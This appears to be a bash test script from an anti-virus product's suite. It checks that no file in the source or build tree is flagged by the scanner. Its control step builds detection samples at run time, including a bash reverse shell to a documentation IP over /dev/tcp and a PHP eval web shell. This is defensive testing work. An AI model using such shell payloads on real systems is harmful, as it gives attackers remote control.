#!/usr/bin/env bash
# No file of the source tree or of the build tree is a sample: an anti-virus product on the
# developer's machine (this one, installed by scripts/setup.sh, included) would quarantine it
# and break the build or the tests. Every sample is assembled at run time from pieces (scripts:
# printf with %s; C: tests/unit/sample.h). A custom scan of both trees with the shipped pack,
# archives included, must find nothing; each file it finds is listed.
. "$(dirname "$0")/lib.sh"

src=$(cd "$(dirname "$0")/../.." && pwd)
build=$(realpath "$MDATP_BUILD_DIR")

# Passive mode: a file found stays where it is, so the developer can look at it.
busctl --system call com.microsoft.Mdatp1 /com/microsoft/Mdatp1 com.microsoft.Mdatp1.Settings Set sv \
        antivirusEngine.enforcementLevel s passive >/dev/null || fail "passive mode"

threat_paths() {
        mdatp threat list --output json | /usr/bin/python3 -c '
import json, sys
for s in json.load(sys.stdin)["threats"]["scans"]:
    for t in s["threats"]: print(t["threat"]["path"], t["threat"]["name"], sep=" : ")' | sort -u
}

# ---- the scan can find something: one sample of each kind, assembled here
control="$MDATP_SANDBOX_DIR/no-samples-control"
mkdir -p "$control"
printf '%s%s' 'X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-' 'ANTIVIRUS-TEST-FILE!$H+H*' >"$control/eicar.com"
printf '#!/bin/bash\nbash -i >& /dev/%s/192.0.2.1/4444 0>&1\n' tcp >"$control/shell.sh"
printf '<%sphp @eval($_POST[%s]);?>\n' '?' "'c'" >"$control/shell.php"
printf 'MDATP-%s-TEST-FILE\n' HASH >"$control/hash-test.bin"
(cd "$control" && zip -q inner.zip shell.sh)
run timeout 60 mdatp scan custom --path "$control"
expect_rc "the control scan succeeds" 0
expect_contains "the control scan finds the 5 samples (one in a zip)" "$OUT" "	5 threat(s) detected"
rm -rf "$control"
before=$(threat_paths)

# ---- the source tree (with .git and any build directory inside it) and the build tree
roots=("$src")
case "$build/" in
"$src"/*) ;;
*) roots+=("$build") ;;
esac
for root in "${roots[@]}"; do
        run timeout 280 mdatp scan custom --path "$root"
        expect_rc "scan of '$root' succeeds" 0
        expect_contains "'$root' holds no sample" "$OUT" "	0 threat(s) detected"
done
found=$(comm -13 <(printf '%s\n' "$before") <(threat_paths))
if [ -z "$found" ]; then
        pass "no file of the trees is detected"
else
        fail "files detected by the shipped definitions (assemble samples at run time instead):
$found"
fi

finish
